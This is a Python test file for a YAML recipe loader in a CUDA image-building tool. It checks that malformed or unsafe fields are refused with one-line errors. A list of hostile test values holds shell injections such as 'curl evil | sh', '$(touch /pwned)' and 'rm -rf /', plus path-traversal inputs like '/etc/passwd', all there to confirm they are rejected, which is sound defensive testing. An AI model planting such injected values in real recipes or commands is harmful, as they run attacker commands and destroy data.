"""Tests for imagegen.model.recipe_file: load_recipe_file turns one recipe file into a Recipe, every value
checked, every problem one line naming the file and the key.

imagegen/resources/recipe.schema.json is the recipe format for users' editors and the source of the
loader's allowed keys. Checked with a real JSON Schema validator (PyPI jsonschema): every catalogue
recipe and the test fixtures' recipes validate; the loader refuses what the schema refuses."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import jsonschema
import pytest
import yaml
from packaging.version import Version

from imagegen import cli
from imagegen.errors import RecipeError
from imagegen.model import recipe_file
from imagegen.model.recipe_file import load_recipe_file
from imagegen.model.recipe_reader import MAX_RECIPE_BYTES
from tests.unit.recipe_texts import GOOD, write

ROOT = Path(__file__).resolve().parents[2]
SCHEMA = json.loads((ROOT / "imagegen" / "resources" / "recipe.schema.json").read_text())
RECIPE_FILES = sorted((ROOT / "imagegen" / "resources" / "recipes").glob("*.yaml")) \
    + sorted((ROOT / "tests" / "fixtures").glob("*/*.yaml"))


def test_the_schema_is_a_valid_json_schema():
    jsonschema.Draft202012Validator.check_schema(SCHEMA)


@pytest.mark.parametrize("path", RECIPE_FILES, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_every_shipped_recipe_validates_against_the_schema(path):
    jsonschema.Draft202012Validator(SCHEMA).validate(yaml.safe_load(path.read_text()))


def edited_causal_conv1d(folder: Path, edit) -> tuple[dict, Path]:
    """The catalogue's causal-conv1d recipe with ``edit`` applied, written into ``folder`` beside its
    patches (where the loader looks for them): the parsed data and the file."""
    data = yaml.safe_load((ROOT / "imagegen" / "resources" / "recipes" / "causal-conv1d.yaml").read_text())
    edit(data)
    path = folder / "causal-conv1d.yaml"
    path.write_text(yaml.safe_dump(data))
    (folder / "patches").mkdir(exist_ok=True)
    for patch in (ROOT / "imagegen" / "resources" / "recipes" / "patches").glob("causal-conv1d-*.patch"):
        shutil.copy(patch, folder / "patches")
    return data, path


@pytest.mark.parametrize("edit, key", [
    (lambda d: d.update(colour="blue"), "colour"),
    (lambda d: d["build"].update(memory_per_thread=4), "build.memory_per_thread"),
    (lambda d: next(iter(d["versions"].values())).update(comit="abc"), "comit"),
    (lambda d: d["smoke"].update(import_=["x"]), "smoke.import_"),
])
def test_an_unknown_key_is_refused_by_both(tmp_path, edit, key):
    data, path = edited_causal_conv1d(tmp_path, edit)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.Draft202012Validator(SCHEMA).validate(data)
    with pytest.raises(RecipeError) as info:
        recipe_file.load_recipe_file(path)
    assert key.split(".")[-1] in str(info.value)


# --------------------------------------------------------------------------------------------
# Broken files fail with file/key/problem (moved from test_recipes.py)


@pytest.mark.parametrize("mutation, where", [
    (lambda t: t.replace("style: numeric", "style: weird"), "arch.style"),
    (lambda t: t.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "4.2"]'), "versions.1.0.archs"),
    (lambda t: t.replace("name: demo", "name: Demo Bad"), "name"),
    (lambda t: t.replace("  imports: [demo]", "  imports: []"), "smoke.imports"),
    (lambda t: t.replace("schema: 1", "schema: 9"), "schema"),
    (lambda t: t + "bogus: 1\n", "bogus"),
    (lambda t: t.replace("  git: https://github.com/example/demo.git", "  path: ."
                         "\n  git: https://github.com/example/demo.git"), "source"),
    (lambda t: t.replace("ref: v1.0", "ref: [1, 2]"), "versions.1.0.ref"),
])
def test_broken_recipe_names_file_and_key(tmp_path, mutation, where):
    p = write(tmp_path, mutation(GOOD))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    msg = str(err.value)
    assert msg.startswith(str(p) + ": ") and f": {where}" in msg and "\n" not in msg


def test_invalid_yaml_names_the_line(tmp_path):
    p = write(tmp_path, "name: [unclosed\n")
    with pytest.raises(RecipeError, match=r"demo.yaml: line \d+: not valid YAML"):
        load_recipe_file(p)


HOSTILE_FIELDS = [
    # (what, replacement)
    ("env value with newline", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "1\\nRUN curl evil | sh"')),
    ("env value with command substitution", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "$(touch /pwned)"')),
    ("env value with backtick", lambda t: t.replace('DEMO_FLAG: "1"', 'DEMO_FLAG: "`id`"')),
    ("env name with space", lambda t: t.replace("DEMO_FLAG:", '"DEMO FLAG; rm -rf /":')),
    ("ref with shell", lambda t: t.replace("ref: v1.0", 'ref: "v1.0; rm -rf /"')),
    ("git url with quote", lambda t: t.replace("https://github.com/example/demo.git", "'https://x/\"; id; \"'")),
    ("commit with newline", lambda t: t.replace("0123456789abcdef0123456789abcdef01234567", '"0123456\\nRUN id"')),
    ("module with code", lambda t: t.replace("imports: [demo]", 'imports: ["os; import os; os.system(1)"]')),
    ("system package with option", lambda t: t.replace("build:\n", "build:\n  system_requires: ['--allow-unauthenticated evil']\n")),
    ("requirement with url", lambda t: t.replace("build:\n", "build:\n  requires: ['evil @ https://x/$(id).whl']\n")),
]


@pytest.mark.parametrize("what, mutate", HOSTILE_FIELDS, ids=[h[0] for h in HOSTILE_FIELDS])
def test_hostile_values_are_refused_at_load(tmp_path, what, mutate):
    p = write(tmp_path, mutate(GOOD))
    with pytest.raises(RecipeError):
        load_recipe_file(p)


REQUIRES_PROBLEMS = [
    ('requires: [">=2.8"]', "versions.1.0.requires: expected a mapping"),
    ('requires: {gcc: ">=11"}', "versions.1.0.requires: unknown subject 'gcc'"),
    ('requires: {torch: "2.10+"}', "versions.1.0.requires.torch: '2.10+' is not a version range"),
    ('requires: {torch: 5}', "versions.1.0.requires.torch: expected a version range"),
    ('requires: {torch: {spec: ">=2.8", because: x}}', "versions.1.0.requires.torch.because: unknown key"),
    ('requires: {cuda: {why: "no spec"}}', "versions.1.0.requires.cuda.spec: expected a version range"),
    ('requires: {python: "===banana"}', "versions.1.0.requires.python: '===banana' is not a version range"),
    ('requires: {torch: "' + ">=2." * 200 + '"}', "versions.1.0.requires.torch: '>=2.>=2."),
]


@pytest.mark.parametrize("line, expected", REQUIRES_PROBLEMS, ids=[p[1].split(": ", 1)[-1][:30] for p in REQUIRES_PROBLEMS])
def test_bad_requires_is_one_line_naming_file_and_key(tmp_path, line, expected):
    p = write(tmp_path, GOOD.replace('    archs: ["8.0", "9.0"]\n', f'    archs: ["8.0", "9.0"]\n    {line}\n'))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    msg = str(err.value)
    assert msg.startswith(f"{p}: {expected}"), msg
    assert "\n" not in msg and len(msg) < len(str(p)) + 250  # a hostile value is quoted, bounded


RUNS_ON_PROBLEMS = [
    ('runs_on: {"8.6": "9.0"}', "arch.runs_on.8.6: an sm_90 cubin does not serve a 8.6 GPU"),
    ('runs_on: {"8.0": "8.6"}', "arch.runs_on.8.0: an sm_86 cubin does not serve a 8.0 GPU"),
    ('runs_on: {"8.6": "8.0+PTX"}', "arch.runs_on.8.6: '8.0+PTX': give one plain compute capability"),
    ('runs_on: {"8.x": "8.0"}', "arch.runs_on.8.x: unknown GPU architecture"),
    ('runs_on: ["8.6"]', "arch.runs_on: expected a mapping"),
    ('runs_on: {"12.1": "12.0"}', "versions.1.0.arch.runs_on.12.1: 12.1 runs on 12.0, which is not in this version's archs"),
    ('runs_on: {"9.0": "9.0"}', "arch.runs_on.9.0: an sm_90 cubin does not serve a 9.0 GPU"),
]


@pytest.mark.parametrize("line, expected", RUNS_ON_PROBLEMS, ids=[p[0] for p in RUNS_ON_PROBLEMS])
def test_bad_runs_on_is_one_line_naming_file_and_key(tmp_path, line, expected):
    p = write(tmp_path, GOOD.replace("  ptx: none\n", f"  ptx: none\n  {line}\n"))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)
    assert "\n" not in str(err.value)


def test_runs_on_target_already_requested_is_refused(tmp_path):
    text = GOOD.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "8.6", "9.0"]').replace(
        "  ptx: none\n", '  ptx: none\n  runs_on: {"8.6": "8.0"}\n')
    with pytest.raises(RecipeError, match=r"versions\.1\.0\.arch\.runs_on\.8\.6: 8\.6 is in this version's archs"):
        load_recipe_file(write(tmp_path, text))


def _demo_with_build(tmp_path, build: str):
    """A minimal recipe file whose build section is ``build`` (its lines after the first indented by two)."""
    path = tmp_path / "demo.yaml"
    path.write_text("schema: 1\nname: demo\nsource: {git: https://example.com/demo.git}\n"
                    "versions:\n  '1.0': {ref: v1.0, archs: ['9.0']}\n"
                    "arch: {env: TORCH_CUDA_ARCH_LIST, style: torch, ptx: honoured}\nsmoke: {imports: [demo]}\n"
                    f"build:\n  {build}\n")
    return path


@pytest.mark.parametrize("figures, words", [
    ("{csrc/k_bwd.cu: 2.0}", None),
    ("{/etc/passwd: 2.0}", "build.source_memory_gb./etc/passwd"),
    ("{../k.cu: 2.0}", "build.source_memory_gb"),
    ("{csrc/k.cu: .inf}", "build.source_memory_gb.csrc/k.cu"),
    ("{csrc/k.cu: 0}", "build.source_memory_gb.csrc/k.cu"),
    ("{csrc/k.cu: x}", "build.source_memory_gb.csrc/k.cu"),
    ("[csrc/k.cu]", "build.source_memory_gb"),
])
def test_per_source_memory_figures_are_validated(tmp_path, figures, words):
    path = _demo_with_build(tmp_path, f"memory_per_thread_gb: 0.5\n  source_memory_gb: {figures}")
    if words is None:
        recipe = load_recipe_file(path)
        assert recipe.source_memory_gb == {"csrc/k_bwd.cu": 2.0} and recipe.heaviest_gb_per_thread == 2.0
        return
    with pytest.raises(RecipeError) as info:
        load_recipe_file(path)
    assert words in str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("entries, words", [
    ("[{env: {LITE: 'TRUE', FAST: 1}, memory_per_thread_gb: 1.5}]", None),
    ("[{env: {}, memory_per_thread_gb: 1.5}]", "build.memory_when_env[0].env: name at least one variable"),
    ("[{env: {LITE: 'TRUE'}}]", "build.memory_when_env[0].memory_per_thread_gb: expected a number"),
    ("[{env: {LITE: 'TRUE'}, memory_per_thread_gb: .nan}]", "build.memory_when_env[0].memory_per_thread_gb"),
    ("[{env: {LITE: 'TRUE'}, memory_per_thread_gb: 1, gb: 2}]", "build.memory_when_env[0].gb: unknown key"),
    ("[{env: {'bad name': 'TRUE'}, memory_per_thread_gb: 1}]", "bad environment variable name"),
    ("[{env: {LITE: '$(id)'}, memory_per_thread_gb: 1}]", "bad value"),
    ("[LITE]", "build.memory_when_env: entry 0: expected a mapping"),
    ("{LITE: 1}", "build.memory_when_env: expected a list"),
    ("[" + ", ".join(["{env: {A: '1'}, memory_per_thread_gb: 1}"] * 17) + "]", "at most 16 entries"),
])
def test_figures_for_a_build_environment_are_validated(tmp_path, entries, words):
    path = _demo_with_build(tmp_path, f"memory_per_thread_gb: 4.0\n  memory_when_env: {entries}")
    if words is None:
        (when,) = load_recipe_file(path).memory_when_env
        assert (dict(when.env), when.memory_per_thread_gb) == ({"LITE": "TRUE", "FAST": "1"}, 1.5)
        return
    with pytest.raises(RecipeError) as info:
        load_recipe_file(path)
    assert words in str(info.value) and "\n" not in str(info.value)


@pytest.mark.parametrize("cost, words", [
    ("{hours: 4.63, gencode_targets: 1, measured: '2.8.3 for 9.0 on the H100 host'}", None),
    ("{hours: 4.63, wall_hours: 0, gencode_targets: 1, measured: x}", "build.cpu_hours.wall_hours"),
    ("{hours: 4.63, wall_hours: .inf, gencode_targets: 1, measured: x}", "build.cpu_hours.wall_hours"),
    ("{hours: 4.63, gencode_targets: 1}", "build.cpu_hours.measured: missing"),
    ("{hours: .nan, gencode_targets: 1, measured: x}", "build.cpu_hours.hours"),
    ("{hours: 0, gencode_targets: 1, measured: x}", "build.cpu_hours.hours"),
    ("{hours: 1, gencode_targets: 0, measured: x}", "build.cpu_hours.gencode_targets"),
    ("{hours: 1, gencode_targets: 1.5, measured: x}", "build.cpu_hours.gencode_targets"),
    ("{hours: 1, gencode_targets: 1, measured: x, host: y}", "build.cpu_hours.host: unknown key"),
    ("4.63", "build.cpu_hours"),
])
def test_a_measured_build_is_validated(tmp_path, cost, words):
    path = _demo_with_build(tmp_path, f"cpu_hours: {cost}")
    if words is None:
        got = load_recipe_file(path).cpu_hours
        assert (got.hours, got.gencode_targets, got.measured) == (4.63, 1, "2.8.3 for 9.0 on the H100 host")
        return
    with pytest.raises(RecipeError) as info:
        load_recipe_file(path)
    assert words in str(info.value) and "\n" not in str(info.value)


# --------------------------------------------------------------------------------------------
# What a good file loads into, and the loader's other refusals


def test_a_good_file_loads_every_value_and_its_defaults(tmp_path):
    p = write(tmp_path, GOOD)
    r = load_recipe_file(p)
    assert (r.name, r.aliases, r.description, r.distribution) == ("demo", ("dm",), "a demo", "demo")
    assert (r.source_kind, r.source_url, r.source_path, r.submodules, r.subdir) == (
        "git", "https://github.com/example/demo.git", None, False, "")
    assert r.homepage == "https://github.com/example/demo.git"  # defaults to the git URL
    assert r.default_version == "1.0" and list(r.versions) == ["1.0"]
    v = r.versions["1.0"]
    assert (v.ref, v.commit, [a.cc for a in v.archs]) == ("v1.0", "0123456789abcdef0123456789abcdef01234567",
                                                          ["8.0", "9.0"])
    assert (v.arch.env, v.arch.style, v.arch.ptx, v.arch.parser, v.arch.runs_on) == (
        "DEMO_ARCHS", "numeric", "none", "torch", ())
    assert (v.emits, v.env, v.patches, v.min_cuda_by_arch, v.extensions, v.requires, v.sdist) == (
        {}, {}, (), {}, {}, (), None)
    assert dict(r.force_env) == {"DEMO_FORCE_BUILD": "TRUE"} and dict(r.env) == {"DEMO_FLAG": "1"}
    assert (r.jobs_env, r.threads_env, r.ext_parallel_env, r.ext_parallel_max, r.local_version_env) == (
        "MAX_JOBS", None, None, 1, None)
    assert (r.min_cuda, r.min_torch, r.max_torch, str(r.python)) == (Version("11.8"), None, None, ">=3.9")
    assert (r.memory_per_thread_gb, r.default_nvcc_threads, r.links_libcuda, r.abi3) == (2.0, 4, False, False)
    assert r.smoke.imports == ("demo",) and r.smoke.driver_imports == () and r.smoke.gpu_check == ""
    assert r.obsolete_patches == ({"name": "old patch", "reason": "fixed upstream"},)
    assert r.path == str(p)


def test_text_is_loaded_without_reading_the_path():
    r = load_recipe_file(Path("/nonexistent/dir/demo.yaml"), text=GOOD)
    assert r.name == "demo" and r.path == "/nonexistent/dir/demo.yaml"


@pytest.mark.parametrize("text, expected", [
    ("", "empty: a recipe is a mapping"),
    ("# only a comment\n", "empty: a recipe is a mapping"),
    ("- a\n- b\n", "<top>: expected a mapping, got a list of 2 items"),
    ("a: &x [1]\nb: *x\n", "line 2: refused (aliases (*name) are not allowed"),
    ("x: " + "[" * 40 + "]" * 40 + "\n", "line 1: refused (nested deeper than 32 levels)"),
])
def test_an_empty_non_mapping_or_hostile_document_is_one_line(tmp_path, text, expected):
    p = write(tmp_path, text)
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    assert str(err.value).startswith(f"{p}: {expected}") and "\n" not in str(err.value)
    assert err.value.exit_code == 2


def test_text_over_the_size_bound_is_refused_before_parsing():
    with pytest.raises(RecipeError, match=rf"^x\.yaml: cannot read: {MAX_RECIPE_BYTES + 1} characters; at most"):
        load_recipe_file(Path("x.yaml"), text="#" * (MAX_RECIPE_BYTES + 1))


def test_a_file_that_is_not_utf8_is_refused_naming_the_byte(tmp_path):
    p = tmp_path / "demo.yaml"
    p.write_bytes(GOOD.encode() + b"# caf\xe9\n")
    with pytest.raises(RecipeError, match=r"demo\.yaml: cannot read: not UTF-8 text \(byte \d+\)$"):
        load_recipe_file(p)


@pytest.mark.parametrize("edit, expected", [
    (lambda t: t.replace("schema: 1", "schema: true"), "schema: schema True is not supported"),
    (lambda t: t + 'default_version: "2.0"\n', "default_version: '2.0' is not one of the versions"),
    (lambda t: t.replace('"1.0":', '"1.0 beta":'), "versions: bad version label '1.0 beta'"),
    (lambda t: yaml.safe_dump({**yaml.safe_load(t), "versions": ["1.0"]}), "versions: expected a mapping of version"),
    (lambda t: t.replace("  ptx: none", "  ptx: sometimes"), "arch.ptx: unknown ptx policy 'sometimes'"),
    (lambda t: t.replace("  ptx: none", "  parser: setup"), "arch.parser: unknown parser 'setup'"),
    (lambda t: t.replace("  env: DEMO_ARCHS\n", ""), "arch.env: style numeric needs the variable"),
    (lambda t: t.replace("  style: numeric", "  style: fixed"), "arch.fixed: style fixed needs the `fixed` arch"),
    (lambda t: t.replace("build:\n", "build:\n  python: '3.9+'\n"), "build.python: not a version specifier"),
    (lambda t: t.replace("build:\n", "build:\n  ext_parallel: {env: EXT, max: 0}\n"),
     "build.ext_parallel.max: expected a whole number from 1 to 64, got 0"),
    (lambda t: t.replace("build:\n", "build:\n  default_nvcc_threads: 2.5\n"),
     "build.default_nvcc_threads: expected a whole number from 1 to 256"),
    (lambda t: t.replace("build:\n", "build:\n  min_torch: two\n"), "build.min_torch: 'two' is not a version"),
    (lambda t: t.replace("    archs: [\"8.0\", \"9.0\"]\n", ""), "versions.1.0.archs: list the archs"),
    (lambda t: t.replace("    ref: v1.0\n", ""), "versions.1.0.ref: missing"),
    (lambda t: yaml.safe_dump({**yaml.safe_load(t), "obsolete_patches": [{"reason": "x"}]}),
     "obsolete_patches[0].name: missing"),
])
def test_more_broken_values_name_file_and_key(tmp_path, edit, expected):
    text = edit(GOOD)
    assert text != GOOD
    p = write(tmp_path, text)
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)
    assert "\n" not in str(err.value)


def test_a_fixed_arch_table_is_sorted_by_nvcc_and_a_version_knob_overrides_the_recipes():
    text = GOOD.replace("  env: DEMO_ARCHS\n  style: numeric\n",
                        '  style: fixed\n  fixed: {"12.8": ["12.0"], "11.8": ["8.0", "9.0"]}\n'
                        '  fixed_dropped: {"13.0": ["8.0"]}\n')
    text = text.replace('"1.0":\n', '"0.9": {ref: v0.9, archs: ["9.0"], arch: {env: DEMO_ARCHS, style: numeric}}\n'
                        '  "1.0":\n')
    r = load_recipe_file(Path("x.yaml"), text=text)
    knob = r.version("1.0").arch
    assert [str(v) for v, _ in knob.fixed] == ["11.8", "12.8"]
    assert [a.cc for a in knob.fixed_for(Version("13.0"))] == ["9.0", "12.0"]
    assert r.default_version == "0.9"  # the first version listed
    old = r.version("0.9").arch
    assert (old.style, old.env, old.ptx, old.fixed) == ("numeric", "DEMO_ARCHS", "none", knob.fixed)
    assert r.version("1.0").arch is knob and knob.env is None


def test_a_cuda_version_listed_twice_in_the_fixed_table_is_refused():
    text = GOOD.replace("  env: DEMO_ARCHS\n  style: numeric\n",
                        '  style: fixed\n  fixed: {"12.8": ["9.0"], 12.8: ["8.0"]}\n')
    with pytest.raises(RecipeError, match=r"^x\.yaml: arch\.fixed\.12\.8: CUDA 12\.8 is listed twice$"):
        load_recipe_file(Path("x.yaml"), text=text)


def test_emits_min_cuda_by_arch_extensions_and_sdist_are_read():
    sha = "0f" * 32
    text = GOOD.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n'
                        '    emits: {"9.0": "9.0a"}\n'
                        '    min_cuda_by_arch: {"9.0": "12.3"}\n'
                        '    extensions: {demo._C_sm90: {archs: ["9.0"]}}\n'
                        f'    sdist: {{url: "https://files.example.org/demo-1.0.tar.gz", sha256: "{sha}"}}\n')
    v = load_recipe_file(Path("x.yaml"), text=text).version("1.0")
    assert dict(v.emits) == {"9.0": "9.0a"}
    assert dict(v.min_cuda_by_arch) == {"9.0": Version("12.3")}
    assert {m: [a.cc for a in archs] for m, archs in v.extensions.items()} == {"demo._C_sm90": ["9.0"]}
    assert (v.sdist.url, v.sdist.sha256, v.sdist.filename) == ("https://files.example.org/demo-1.0.tar.gz", sha,
                                                               "demo-1.0.tar.gz")


@pytest.mark.parametrize("line, expected", [
    ('emits: {"9.0": "8.0;9.0"}', "versions.1.0.emits.9.0: map one arch to one arch"),
    ('emits: {"9.0": [1]}', "versions.1.0.emits.9.0: map one arch to one arch, got '9.0': a list of 1 item"),
    ('min_cuda_by_arch: {"9.0": "twelve"}', "versions.1.0.min_cuda_by_arch.9.0: 'twelve' is not a CUDA version"),
    ('min_cuda_by_arch: {"9.0+PTX": "12.3"}', "versions.1.0.min_cuda_by_arch.9.0+PTX: '9.0+PTX': give one plain"),
    ('extensions: {"demo;os": {archs: ["9.0"]}}', "versions.1.0.extensions: bad extension module name 'demo;os'"),
    ("extensions: {demo._C: {archs: []}}", "versions.1.0.extensions.demo._C.archs: list the archs this extension"),
    ('sdist: {url: "http://x.org/demo-1.0.tar.gz", sha256: "' + "0" * 64 + '"}',
     "versions.1.0.sdist.url: 'http://x.org/demo-1.0.tar.gz' is not allowed here"),
    ('sdist: {url: "https://x.org/demo-1.0.tar.gz", sha256: "abc"}', "versions.1.0.sdist.sha256: 'abc' is not allowed"),
    ('env: {"A B": "1"}', "versions.1.0.env: bad environment variable name 'A B'"),
])
def test_bad_per_version_tables_name_their_key(line, expected):
    text = GOOD.replace('    archs: ["8.0", "9.0"]\n', f'    archs: ["8.0", "9.0"]\n    {line}\n')
    with pytest.raises(RecipeError) as err:
        load_recipe_file(Path("x.yaml"), text=text)
    assert str(err.value).startswith(f"x.yaml: {expected}"), str(err.value)


def test_ext_parallel_max_counts_only_with_its_variable():
    both = load_recipe_file(Path("x.yaml"), text=GOOD.replace("build:\n", "build:\n  ext_parallel: {env: E, max: 4}\n"))
    assert (both.ext_parallel_env, both.ext_parallel_max) == ("E", 4)
    without = load_recipe_file(Path("x.yaml"), text=GOOD.replace("build:\n", "build:\n  ext_parallel: {max: 4}\n"))
    assert (without.ext_parallel_env, without.ext_parallel_max) == (None, 1)


def _local(text: str, path: str) -> str:
    text = text.replace("  git: https://github.com/example/demo.git\n", f"  path: {path}\n")
    return text.replace("    ref: v1.0\n", "")


def test_a_local_source_inside_the_recipe_directory_needs_no_ref(tmp_path):
    (tmp_path / "src" / "demo").mkdir(parents=True)
    r = load_recipe_file(write(tmp_path, _local(GOOD, "src/demo")))
    assert (r.source_kind, r.source_url, r.source_path) == ("local", None, (tmp_path / "src" / "demo").resolve())
    assert r.versions["1.0"].ref == "" and r.homepage == ""


@pytest.mark.parametrize("path, expected", [
    ("/etc", "source.path: '/etc' is not allowed: give a relative path inside the recipe's directory"),
    ("~/src", "source.path: '~/src' is not allowed"),
    ("src/../../up", "source.path: 'src/../../up' is not allowed"),
    ("link", "source.path: 'link' leads outside the recipe's directory (a symlink to elsewhere?)"),
])
def test_a_local_source_outside_the_recipe_directory_is_refused(tmp_path, path, expected):
    recipes = tmp_path / "recipes"
    recipes.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (recipes / "link").symlink_to(tmp_path / "elsewhere")
    p = write(recipes, _local(GOOD, path))
    with pytest.raises(RecipeError) as err:
        load_recipe_file(p)
    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)


def test_patches_are_read_from_the_recipes_patches_directory(tmp_path):
    (tmp_path / "patches" / "sub").mkdir(parents=True)
    (tmp_path / "patches" / "sub" / "fix.patch").write_text("--- a/x\n+++ b/x\n")
    text = GOOD.replace('    archs: ["8.0", "9.0"]\n',
                        '    archs: ["8.0", "9.0"]\n'
                        '    patches: [{file: sub/fix.patch, reason: "build fix"}, {file: gone.patch}]\n')
    with pytest.raises(RecipeError) as err:
        load_recipe_file(write(tmp_path, text))
    assert str(err.value) == (f"{tmp_path / 'demo.yaml'}: versions.1.0.patches[1].file: cannot read patch "
                              f"{tmp_path / 'patches' / 'gone.patch'}: no such file (or a symlink to nothing)")
    (tmp_path / "patches" / "gone.patch").write_bytes(b"\xff\xfe")
    with pytest.raises(RecipeError, match=r"patches\[1\]\.file: cannot read patch .*gone\.patch: not UTF-8 text"):
        load_recipe_file(write(tmp_path, text))
    (tmp_path / "patches" / "gone.patch").write_text("")
    (fix, gone) = load_recipe_file(write(tmp_path, text)).version("1.0").patches
    assert (fix.name, fix.text, fix.reason) == ("sub/fix.patch", "--- a/x\n+++ b/x\n", "build fix")
    assert (gone.name, gone.text, gone.reason) == ("gone.patch", "", "")


def test_a_fifo_recipe_file_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "demo.yaml")
    with pytest.raises(RecipeError, match=r"demo\.yaml: cannot read: not a regular file"):
        load_recipe_file(tmp_path / "demo.yaml")


def test_numbers_written_for_text_become_that_text():
    text = GOOD.replace("    ref: v1.0\n", "    ref: 10\n").replace('DEMO_FLAG: "1"', "DEMO_FLAG: 1, DEMO_ON: true")
    r = load_recipe_file(Path("x.yaml"), text=text)
    assert r.version("1.0").ref == "10" and dict(r.env) == {"DEMO_FLAG": "1", "DEMO_ON": "1"}
    with pytest.raises(RecipeError, match=r"versions\.1\.0\.ref: expected text, got \.inf$"):
        load_recipe_file(Path("x.yaml"), text=GOOD.replace("    ref: v1.0\n", "    ref: .inf\n"))


def test_a_homepage_with_a_credential_never_reaches_the_dockerfile(tmp_path, capsys):
    # Found by a fuzz of every recipe field (2026-11-28): the homepage became org.opencontainers.image.source.
    token = "ghp_S3cr3tT0kenDoNotLeak1234"
    edited_causal_conv1d(tmp_path, lambda d: d.update(homepage=f"https://u:{token}@github.com/Dao-AILab/causal-conv1d"))
    assert cli.main(["render", "causal-conv1d", "--recipe-dir", str(tmp_path)]) == 2
    out = capsys.readouterr()
    assert "homepage" in out.err and "carries a credential" in out.err and token not in out.err + out.out
